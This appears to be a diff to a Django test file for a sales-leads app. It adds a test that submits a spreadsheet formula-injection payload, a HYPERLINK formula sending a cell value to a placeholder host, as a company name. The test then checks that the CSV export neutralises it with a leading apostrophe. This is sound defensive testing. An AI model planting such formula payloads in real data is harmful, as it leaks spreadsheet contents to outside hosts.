@@ -21,6 +21,7 @@ from leads.models import (
 )
 from leads.tests.factories import TaskFactory, member, territory
 from leads.tracker import preview_next
+from revopsweb.tests.csv_reading import export_rows
 
 pytestmark = pytest.mark.django_db
 
@@ -666,3 +667,16 @@ def test_plain_form_fallbacks_pass_csrf_checks():
     task_work = task_page.content.decode().split('id="task-work"')[1]
     # Touch, disqualify, nurture, convert.
     assert task_work.count('name="csrfmiddlewaretoken"') == 4
+
+
+def test_a_formula_sent_as_company_through_the_contact_form_is_text_in_my_book_csv(client):
+    picked = member()
+    company = '=HYPERLINK("http://example.invalid/?x="&A2,"Open")'
+
+    client.post(reverse("leads:contact"), {**CONTACT, "company": company})
+
+    account = Task.objects.get().account
+    assert account.owner == picked.user
+    client.force_login(picked.user)
+    [row] = export_rows(client.get(reverse("accounts:book_export")))
+    assert row["name"] == "'" + company
